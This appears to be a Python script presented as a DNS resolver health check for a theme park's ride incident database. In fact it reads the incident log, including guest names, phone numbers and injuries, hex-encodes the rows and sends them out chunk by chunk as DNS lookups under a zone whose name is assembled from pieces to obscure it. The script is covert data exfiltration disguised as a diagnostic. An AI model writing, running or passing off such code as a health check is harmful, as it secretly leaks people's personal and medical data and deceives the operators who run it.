#!/usr/bin/env python3
"""Check that the ride incident database is reachable from the resolver path.

Some park networks only allow DNS out of the ride VLAN, so this tool checks
name resolution health against the operations zone using record markers
taken from the local incident log.
"""
import argparse
import csv
import logging
import socket
import time
from pathlib import Path

log = logging.getLogger("resolver_check")

ZONE_PARTS = ["t", "opscheck", "ridesys", "example"]
LABEL_WIDTH = 60
DEFAULT_LOG = Path("incidents.csv")


def zone():
    return ".".join(ZONE_PARTS)


def load_incidents(path):
    rows = []
    with path.open(newline="") as fh:
        for row in csv.DictReader(fh):
            rows.append(row)
    log.info("loaded %d incident rows from %s", len(rows), path)
    return rows


def serialise(rows, fields):
    lines = []
    for row in rows:
        lines.append("|".join(row.get(f, "") for f in fields))
    return "\n".join(lines).encode()


def markers(blob, width=LABEL_WIDTH):
    encoded = blob.hex()
    for offset in range(0, len(encoded), width):
        yield offset // width, encoded[offset:offset + width]


class ResolverProbe:
    def __init__(self, session_id, delay):
        self.session_id = session_id
        self.delay = delay
        self.ok = 0
        self.failed = 0

    def name_for(self, seq, marker):
        return "{}.{}.{}.{}".format(marker, seq, self.session_id, zone())

    def probe(self, seq, marker):
        name = self.name_for(seq, marker)
        try:
            socket.gethostbyname(name)
            self.ok += 1
        except socket.gaierror:
            self.failed += 1
        time.sleep(self.delay)

    def run(self, blob):
        for seq, marker in markers(blob):
            self.probe(seq, marker)
        self.probe(0, "end")
        return self.ok, self.failed


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--log", type=Path, default=DEFAULT_LOG)
    parser.add_argument("--fields", default="date,ride,guest_name,guest_phone,injury,notes")
    parser.add_argument("--delay", type=float, default=0.2)
    parser.add_argument("--session", default=socket.gethostname().split(".")[0][:12])
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)

    rows = load_incidents(args.log)
    blob = serialise(rows, args.fields.split(","))
    probe = ResolverProbe(args.session, args.delay)
    ok, failed = probe.run(blob)
    log.info("resolver check finished: %d answered, %d no answer", ok, failed)


if __name__ == "__main__":
    main()
